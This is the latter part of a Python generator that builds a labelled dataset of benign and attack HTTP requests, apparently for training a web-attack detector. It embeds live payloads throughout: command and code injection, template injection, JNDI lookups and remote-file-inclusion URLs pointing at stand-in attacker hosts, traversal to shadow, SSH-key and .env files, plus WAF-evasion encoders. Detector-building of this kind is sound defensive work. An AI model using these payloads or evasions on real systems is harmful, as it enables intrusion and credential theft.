                 f"{pre}\n{c}", f"{pre};{c};", f"$({c})", f"`{c}`", f"{pre}&{c}&", f";{c.replace(' ', '${IFS}')}", f"{pre}|{c}#", f"';{c};'"])


def rce_windows():
    c = pick(WIN_CMDS)
    pre = pick(["", "1", "127.0.0.1", "x"])
    return pick([f"{pre}&{c}", f"{pre} & {c}", f"{pre}|{c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}\r\n{c}", f"\"&{c}&\""])


PHP_EXEC = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func"]
PHP_SRC = ["$_GET['c']", "$_POST[1]", "$_REQUEST['cmd']", "base64_decode('{b}')", "str_rot13('{r}')", "gzinflate(base64_decode('{b}'))", "'{c}'", "\"{c}\"", "$_COOKIE['x']", "hex2bin('{h}')"]


def rce_code():
    c = pick(UNIX_CMDS)
    src = pick(PHP_SRC).format(b=base64.b64encode(f"system('{c}');".encode()).decode(), r=c.translate(str.maketrans(string.ascii_lowercase, string.ascii_lowercase[13:] + string.ascii_lowercase[:13])), c=c, h=c.encode().hex())
    fn = pick(PHP_EXEC)
    k = R.random()
    if k < 0.35:
        call = f"{fn}({src})"
        return pick([call, call + ";", f"<?php {call}; ?>", f"<?={call}?>", f"';{call};//", f"\";{call};//", f"${{@{call}}}", f"{{${{{call}}}}}", f"1;{call}", f"\n{call}"])
    if k < 0.55:
        return pick([f"__import__('os').system('{c}')", f"__import__('os').popen('{c}').read()", f"os.system('{c}')", f"subprocess.check_output('{c}',shell=True)",
                     f"exec(\"import os;os.system('{c}')\")", f"eval(compile('import os','x','exec'))", f"getattr(__import__('os'),'system')('{c}')", f"__import__('subprocess').call(['{c.split()[0]}'])"])
    if k < 0.7:
        return pick([f"require('child_process').exec('{c}')", f"require('child_process').execSync('{c}').toString()", f"process.mainModule.require('child_process').exec('{c}')",
                     f"global.process.mainModule.constructor._load('child_process').exec('{c}')", f"new Function('return process')().mainModule.require('child_process').execSync('{c}')"])
    if k < 0.85:
        return pick([f"Runtime.getRuntime().exec(\"{c}\")", f"new java.lang.ProcessBuilder(\"{c.split()[0]}\").start()", f"java.lang.Runtime.getRuntime().exec('{c}')",
                     f"#{{T(java.lang.Runtime).getRuntime().exec('{c}')}}", f"%{{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('{c}'))}}", f"`{c}`.to_s", f"IO.popen('{c}').read", f"Kernel.system('{c}')"])
    return pick([f"() {{ :; }}; /bin/bash -c '{c}'", f"() {{ :;}}; echo; /bin/{c}", f"<!--#exec cmd=\"{c}\"-->", f"<!--#EXEC cmd=\"/bin/{c}\" -->",
                 f"<!--#include virtual=\"/etc/passwd\"-->", f"<!--#echo var=\"DOCUMENT_ROOT\"-->", f"() {{ _; }} >_[$($())] {{ {c}; }}", "phpinfo();", f"<?php echo `{c}`; ?>",
                 f"preg_replace('/.*/e','system(\"{c}\")','')", f"${{system('{c}')}}"])


def rce_ssti():
    a, b = R.randint(2, 99), R.randint(2, 99)
    return pick([f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"<%= {a}*{b} %>", f"#{{{a}*{b}}}", f"*{{{a}*{b}}}", f"{{{{config}}}}", f"{{{{config.items()}}}}",
                 "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self.__init__.__globals__.__builtins__}}",
                 "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
                 "{% import os %}{{ os.system('whoami') }}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
                 "{{lipsum.__globals__['os'].popen('id').read()}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
                 "{{7*'7'}}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "@(1+2)", "[[${7*7}]]"])


def rce_jndi():
    host = pick(["evil.example", "x.attacker.example", "10.0.0.5", "${hostName}.dns.example", "127.0.0.1:1389"])
    proto = pick(["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"])
    core = f"jndi:{proto}://{host}/{pick(['a', 'Exploit', 'o=tomcat', rstr()])}"
    return pick([f"${{{core}}}", f"${{${{lower:j}}ndi:{proto}://{host}/a}}", f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{host}/a}}",
                 f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}{proto}://{host}/a}}", f"${{j${{upper:n}}di:{proto}://{host}/a}}", f"${{jndi:${{lower:{proto}}}://{host}/a}}",
                 f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:{proto}://{host}/a}}", f"${{{core}}}".replace("jndi", "${lower:jndi}")])


TRAV_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "etc/issue", "WEB-INF/web.xml",
                "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts", ".htaccess", ".env", "config/database.yml", "proc/self/cmdline", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", "wp-config.php"]


def trav_dotdot():
    d = R.randint(1, 10)
    t = pick(TRAV_TARGETS)
    up = pick(["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%5c", "%252e%252e%252f", "..%c0%af", "..%u2216", ".%2e/", "..///", "/..", "..%00/"])
    sep = "\\" if "\\" in up else "/"
    return pick(["", "/", "./", "static/", "images/", "file=", ""]) + up * d + t.replace("/", sep) + pick(["", "", "%00", "%00.jpg", "%00.html", "?", "#"])


def trav_abs():
    t = pick(TRAV_TARGETS)
    return pick([f"/{t}", f"file:///{t}", f"c:\\{t.replace('/', chr(92))}", f"C:/{t}", f"\\\\localhost\\c$\\{t.replace('/', chr(92))}",
                 f"/var/www/../../{t}", f"/proc/self/fd/{R.randint(0, 9)}", f"file://localhost/{t}", f"/{t}%00", f"//{t}"])


def lfi_wrapper():
    f = pick(["index.php", "config.php", "../config.php", "/etc/passwd", "admin.php"])
    return pick([f"php://filter/convert.base64-encode/resource={f}", f"php://filter/read=string.rot13/resource={f}", "php://input", "expect://id",
                 f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[c]); ?>').decode()}", f"zip://uploads/avatar.jpg%23shell.php",
                 f"phar://uploads/x.phar/{f}", f"php://filter/resource={f}", "data:text/plain,<?php phpinfo(); ?>", f"glob://{f}", f"jar:file:///tmp/x.jar!/{f}"])


def rfi():
    host = pick(["evil.example", "attacker.example.com", "10.1.2.3", "xn--e1afmkfd.example", "pastebin.example/raw"])
    return pick([f"http://{host}/shell.txt?", f"https://{host}/c99.php", f"http://{host}/x.txt%00", f"ftp://{host}/shell.php",
                 f"//{host}/shell.php?", f"http://{host}/r57.txt??", f"\\\\{host}\\share\\shell.php", f"https://{host}/inc.txt#", f"http://{host}/backdoor.php?cmd=id"])


ATTACKS = {
    "sqli": [("sqli_boolean", sqli_boolean, 3), ("sqli_union", sqli_union, 3), ("sqli_error", sqli_error, 2), ("sqli_time", sqli_time, 2),
             ("sqli_stacked", sqli_stacked, 1), ("sqli_inline", sqli_inline, 1)],
    "xss": [("xss_script", lambda sm: xss_script(), 2), ("xss_event", lambda sm: xss_event(), 3), ("xss_uri", lambda sm: xss_uri(), 2),
            ("xss_attr_break", lambda sm: xss_attr_break(), 2), ("xss_polyglot", lambda sm: xss_polyglot(), 1)],
    "rce": [("rce_unix", lambda sm: rce_unix(), 3), ("rce_windows", lambda sm: rce_windows(), 1), ("rce_code", lambda sm: rce_code(), 2),
            ("rce_ssti", lambda sm: rce_ssti(), 2), ("rce_jndi", lambda sm: rce_jndi(), 1)],
    "traversal": [("trav_dotdot", lambda sm: trav_dotdot(), 4), ("trav_abs", lambda sm: trav_abs(), 2), ("lfi_wrapper", lambda sm: lfi_wrapper(), 1),
                  ("rfi", lambda sm: rfi(), 1)],
}


# --------------------------------------------------------------------------
# Obfuscation. Each takes an app-level payload and returns (payload, wire):
# wire=True means the result is already encoded for the transport.
# --------------------------------------------------------------------------
def case_mix(s):
    return "".join(c.upper() if chance(0.5) else c.lower() for c in s)


SQL_KW_RE = re.compile(r"\b(select|union|from|where|and|or|sleep|order|by|insert|into|values|drop|table|concat|limit|having|group)\b", re.I)


def sql_comments(s):
    mode = pick(["space", "versioned", "inline"])
    if mode == "space":
        return s.replace(" ", pick(["/**/", "/*x*/", "/*!*/", "%0a", "\t", "/**_**/"]))
    if mode == "versioned":
        return SQL_KW_RE.sub(lambda m: f"/*!{pick(['', '50000', '12345'])}{m.group(0)}*/", s)
    return SQL_KW_RE.sub(lambda m: m.group(0) + "/**/", s)


def whitespace(s):
    return s.replace(" ", pick(["\t", "\n", "\r\n", "\x0b", "\x0c", "  ", "+", "\xa0"]))


def sql_concat(s):
    def rep(m):
        w = m.group(1)
        if len(w) < 2:
            return m.group(0)
        i = R.randint(1, len(w) - 1)
        return pick([f"'{w[:i]}'||'{w[i:]}'", f"CONCAT('{w[:i]}','{w[i:]}')", f"'{w[:i]}' '{w[i:]}'", "CHAR(" + ",".join(str(ord(c)) for c in w) + ")", "0x" + w.encode().hex()])
    return re.sub(r"'([A-Za-z0-9_]+)'", rep, s)


def js_tricks(s):
    t = pick([lambda: s.replace("alert(1)", pick(["alert`1`", "top['al'+'ert'](1)", "window['al\\x65rt'](1)", "(alert)(1)", "[1].find(alert)", "self[atob('YWxlcnQ=')](1)"])),
              lambda: s.replace("(", "`").replace(")", "`") if "alert(1)" in s else s.replace("alert", "\\u0061lert"),
              lambda: s.replace("javascript:", pick(["java&#x09;script:", "&#x6A;avascript:", "javas&#99;ript:", "javascript&colon;"])),
              lambda: s.replace("<", "\\x3c").replace(">", "\\x3e"),
              lambda: s.replace(" ", "/")])
    return t()


def unicode_esc(s):
    mode = pick(["fullwidth", "jsu", "iis", "overlong"])
    if mode == "fullwidth":
        return "".join(chr(ord(c) + 0xFEE0) if c in "<>'\"()/;=" and chance(0.7) else c for c in s), False
    if mode == "jsu":
        return "".join(f"\\u{ord(c):04x}" if not c.isalnum() or chance(0.2) else c for c in s), False
    if mode == "iis":
        return "".join(f"%u{ord(c):04x}" if not c.isalnum() or chance(0.2) else c for c in s), True
    return "".join({"'": "%c0%a7", "/": "%c0%af", "<": "%c0%bc", ">": "%c0%be", ".": "%c0%ae", " ": "%c0%a0"}.get(c, c) for c in s), True


def html_entities(s):
    fmt = pick(["&#{d};", "&#x{h};", "&#{d}", "&#x{h}", "&#000{d};"])
    return "".join(fmt.format(d=ord(c), h=f"{ord(c):x}") if (not c.isalnum() or chance(0.3)) and ord(c) < 128 else c for c in s)


def null_bytes(s):
    if chance(0.5):
        return s + pick(["%00", "%00.jpg", "%00.php"]), True
    i = R.randint(0, len(s))
    return s[:i] + "%00" + s[i:], True


def url_full(s):
    return "".join(f"%{b:02X}" for b in s.encode()), True


def url_double(s):
    return "".join(f"%25{b:02X}" if not chr(b).isalnum() or chance(0.2) else chr(b) for b in s.encode()), True


def url_partial(s):
    return "".join(f"%{b:02x}" if chr(b) in "'\"<>()=; /.\\|&$`{}" and chance(0.6) else chr(b) for b in s.encode()), True


def nested(s):
    s2 = html_entities(s) if chance(0.5) else s
    return "".join(f"%{b:02X}" if not chr(b).isalnum() else chr(b) for b in s2.encode()), True


def obfuscate(cls, payload, sm):
    """Returns (payload, wire, names)."""
    names = []
    wire = False
    n = pick([1, 1, 1, 2, 2, 3])
    app_ops = {"case": case_mix, "whitespace": whitespace}
    if cls == "sqli":
        app_ops.update(sql_comments=sql_comments, concat=sql_concat)
    if cls == "xss":
        app_ops.update(js=js_tricks, entities=html_entities)
    if cls == "rce":
        app_ops.update(ifs=lambda s: s.replace(" ", pick(["${IFS}", "$IFS$9", "{,}", "%09"])), quotes=lambda s: re.sub(r"\b(cat|id|whoami|ls|uname)\b", lambda m: m.group(1)[0] + pick(["''", '""', "\\", "$@"]) + m.group(1)[1:], s))
    for _ in range(n):
        if cls == "sqli" and sm.tampers and chance(0.35):
            name = pick(sorted(sm.tampers))
            try:
                out = sm.tampers[name](payload)
            except Exception:
                continue
            if out:
                # Tampers that emit % sequences already encode for the wire.
                wire = wire or bool(re.search(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}", out)) and not re.search(r"%[0-9A-Fa-f]{2}", payload)
                payload = out
                names.append("sqlmap:" + name)
            continue
        name = pick(sorted(app_ops))
        payload = app_ops[name](payload)
        names.append(name)
    if chance(0.5) and not wire:
        name, fn = pick([("url_full", url_full), ("url_double", url_double), ("url_partial", url_partial), ("unicode", unicode_esc),
                         ("nullbyte", null_bytes), ("nested", nested)])
        res = fn(payload)
        payload, wire = res if isinstance(res, tuple) else (res, False)
        names.append(name)
    return payload, wire, names


# --------------------------------------------------------------------------
# Placement.
# --------------------------------------------------------------------------
def enc_query(v, wire):
    if wire:
        return v.replace(" ", "%20").replace("&", "%26").replace("#", "%23").replace("+", "%2B").replace("\n", "%0A").replace("\r", "%0D").replace("\t", "%09")
    return urllib.parse.quote(v, safe=pick(["", "/:,()'*!$;@", "/:'()"])) if chance(0.7) else urllib.parse.quote_plus(v, safe="/:,()'*!$;@")


def enc_path(v, wire):
    if wire:
        return v.replace(" ", "%20").replace("?", "%3F").replace("#", "%23")
    return urllib.parse.quote(v, safe="/:,()'*!$;@=&")


def build(rec_id, method, path, qpairs, headers, body, ctype, wire_q=None):
    q = "&".join(f"{urllib.parse.quote_plus(k)}={v}" for k, v in qpairs)
    uri = path + ("?" + q if q else "")
    h = dict(headers)
    if body is not None:
        h["Content-Type"] = ctype
    return {"id": rec_id, "method": method, "uri": uri, "headers": h, "body": body or ""}


def legacy_request(bg: Benign, rid):
    """An older server-rendered shop: JSP-style pages, submit-button
    parameters and Latin-1 percent-encoding (invalid UTF-8 on the wire)."""
    p = bg.p
    west = [f for f in p.intl if f.locales[0][:2] in ("es", "fr", "de", "it", "pt", "nl")] or [p.en]
    fk = pick(west)
    page = "/%s/%s/%s.%s" % (pick(["shop", "tienda", "boutique", "store", "app"]), pick(["public", "private", "publico", "admin", "user"]),
                             pick(["add", "view", "register", "pay", "search", "login", "cart", "product", "anadir", "entrar", "autenticar"]), pick(["jsp", "php", "asp", "aspx", "do", "cgi"]))
    fields = pick([
        [("id", str(R.randint(1, 99))), ("name", fk.word().capitalize() + " " + fk.word()), ("price", str(R.randint(1, 200))), ("qty", str(R.randint(1, 99))), ("B1", pick(["Add to cart", "Añadir al carrito", "Ajouter", "Kaufen"]))],
        [("mode", pick(["login", "entrar", "registro"])), ("login", pick(p.usernames)), ("pwd", pick(p.passwords)), ("remember", pick(["on", "off"])), ("B1", pick(["Enter", "Entrar", "Login"]))],
        [("first", fk.first_name()), ("last", fk.last_name()), ("email", fk.email()), ("dni", f"{R.randint(10**7, 10**8 - 1)}{pick(string.ascii_uppercase)}"),
         ("address", fk.street_address()), ("city", fk.city()), ("zip", fk.postcode()), ("province", fk.city()), ("card", fk.credit_card_number()), ("B1", pick(["Register", "Registrar", "Confirmar"]))],
        [("q", fk.sentence(nb_words=R.randint(2, 6)).rstrip(".")), ("cat", fk.word()), ("page", str(R.randint(1, 9)))],
    ])
    enc = pick(["latin-1", "utf-8"])
    q = "&".join(f"{k}={urllib.parse.quote_plus(v.encode(enc, 'replace'))}" for k, v in fields)
    headers = bg.headers()
    if chance(0.5):
        return build(rid, "GET", page, [(k, v) for k, v in (kv.split("=", 1) for kv in q.split("&"))], headers, None, None)
    return build(rid, "POST", page, [], headers, q, "application/x-www-form-urlencoded")


def benign_request(bg: Benign, rid):
    if chance(0.12):
        return legacy_request(bg, rid)
    method = "GET"
    path = bg.path()
    qpairs = [(k, enc_query(v, False)) for k, v in bg.query()]
    headers = bg.headers()
    body = ctype = None
    k = R.random()
    if k < 0.25:
        method = "POST"
        _, fields = bg.form()
        body = "&".join(f"{k}={urllib.parse.quote_plus(v)}" for k, v in fields)
        ctype = "application/x-www-form-urlencoded"
    elif k < 0.5:
        method = "POST" if chance(0.8) else pick(["PUT", "PATCH"])
        body = json.dumps(bg.json_body(), ensure_ascii=chance(0.5))
        ctype = "application/json"
    elif k < 0.53:
        method = "POST"
        body = bg.text()
        ctype = "text/plain"
    return build(rid, method, path, qpairs, headers, body, ctype)


QUERY_NAMES = ["id", "q", "search", "name", "page", "file", "path", "cmd", "redirect", "url", "user", "username", "cat", "item", "lang", "template", "include", "dir", "host", "ip", "query", "sort", "filter", "callback", "comment", "title", "view", "action"]
HEADER_TARGETS = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Custom-Header", "Accept-Language", "Origin", "X-Client-Data"]


def attack_request(bg: Benign, sm, cls, rid):
    fams = ATTACKS[cls]
    family, fn, _ = R.choices(fams, weights=[w for _, _, w in fams])[0]
    base = fn(sm)
    payload, wire, obf = base, False, []
    if chance(0.6):
        payload, wire, obf = obfuscate(cls, base, sm)
    headers = bg.headers()
    qpairs = [(k, enc_query(v, False)) for k, v in bg.query()]
    path = bg.path()
    method = "GET"
    body = ctype = None
    loc = R.choices(["query", "body_form", "body_json", "path", "header", "cookie"], weights=[40, 15, 12, 10 if cls != "traversal" else 25, 10, 8])[0]
    part, field = None, None
    if loc == "query":
        name = pick(QUERY_NAMES)
        qpairs = [(k, v) for k, v in qpairs if k != name]
        qpairs.insert(R.randint(0, len(qpairs)), (name, enc_query(payload, wire)))
        part, field = "query", name
    elif loc == "body_form":
        method = "POST"
        _, fields = bg.form()
        i = R.randrange(len(fields))
        name = fields[i][0]
        enc = [(k, urllib.parse.quote_plus(v)) for k, v in fields]
        enc[i] = (name, enc_query(payload, wire))
        body = "&".join(f"{k}={v}" for k, v in enc)
        ctype = "application/x-www-form-urlencoded"
        part, field = "body", name
    elif loc == "body_json":
        method = "POST" if chance(0.9) else "PUT"
        obj = bg.json_body()
        paths = flatten_json(obj)
        if paths and chance(0.8):
            field = pick(paths)
            set_json(obj, field, payload)
        else:
            field = pick(["comment", "name", "query", "filename", "url"])
            obj[field] = payload
            # Setting a key changes the sorted order but not the path name.
        body = json.dumps(obj, ensure_ascii=chance(0.5))
        ctype = "application/json"
        part = "body"
    elif loc == "path":
        segs = path.strip("/").split("/") or ["x"]
        i = R.randrange(len(segs))
        segs[i] = enc_path(payload, wire)
        path = "/" + "/".join(segs)
        if path == "/":
            path = "/" + enc_path(payload, wire) if payload else "/x"
        part, field = "path", ""
    elif loc == "header":
        name = pick(HEADER_TARGETS)
        # Header values cannot carry raw line breaks; ";" keeps a shell
        # payload meaningful where a space would defuse it.
        headers[name] = payload.replace("\r\n", ";").replace("\n", ";").replace("\r", ";")
        part, field = "header", name.lower()
    else:
        cname = pick(["session", "user", "lang", "theme", "pref", "tracking", "id"])
        v = payload if wire else urllib.parse.quote(payload, safe="/:()'!$@,")
        cookies = [c for c in headers.get("Cookie", "").split("; ") if c and not c.startswith(cname + "=")]
        cookies.insert(R.randint(0, len(cookies)), f"{cname}={v}")
        headers["Cookie"] = "; ".join(cookies)
        part, field = "cookie", cname
    rec = build(rid, method, path, qpairs, headers, body, ctype)
    rec.update(label="attack", category=cls, attack_part=part, attack_field=field, family=family, obfuscation="+".join(obf) or "none")
    return rec, base


def split_of(key, holdout):
    if holdout:
        return "family_test"
    h = int(hashlib.sha256(key.encode()).hexdigest()[:8], 16) % 100
    return "train" if h < 70 else "valid" if h < 80 else "test"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=20260501)
    ap.add_argument("--benign", type=int, default=120000)
    ap.add_argument("--attacks", type=int, default=80000)
    ap.add_argument("--out", required=True, help="output directory")
    a = ap.parse_args()
    R.seed(a.seed)
    # sqlmap's tamper scripts draw from the global generator.
    random.seed(a.seed)
    os.makedirs(a.out, exist_ok=True)
    pools = Pools(a.seed)
    bg = Benign(pools)
    sm = SQLMapPayloads()
    outs = {s: open(os.path.join(a.out, f"{s}.jsonl"), "w") for s in ["train", "valid", "test", "family_test"]}
    counts = {}
    for i in range(a.benign):
        rec = benign_request(bg, f"b{i}")
        rec.update(label="benign", category="benign", family="benign", obfuscation="none")
        # Benign requests split at random; identical Faker values across
        # splits mirror real traffic, where the same UAs recur.
        rec["split"] = split_of(f"benign{i}", False)
        outs[rec["split"]].write(json.dumps(rec, ensure_ascii=False) + "\n")
        counts[("benign", rec["split"])] = counts.get(("benign", rec["split"]), 0) + 1
    classes = ["sqli", "xss", "rce", "traversal"]
    for i in range(a.attacks):
        cls = classes[i % len(classes)]
        rec, base = attack_request(bg, sm, cls, f"a{i}")
        rec["split"] = split_of(base, rec["family"] in HOLDOUT_FAMILIES)
        outs[rec["split"]].write(json.dumps(rec, ensure_ascii=False) + "\n")
        counts[(cls, rec["split"])] = counts.get((cls, rec["split"]), 0) + 1
    for f in outs.values():
        f.close()
    for k in sorted(counts):
        print(*k, counts[k], sep="\t")


if __name__ == "__main__":
    main()
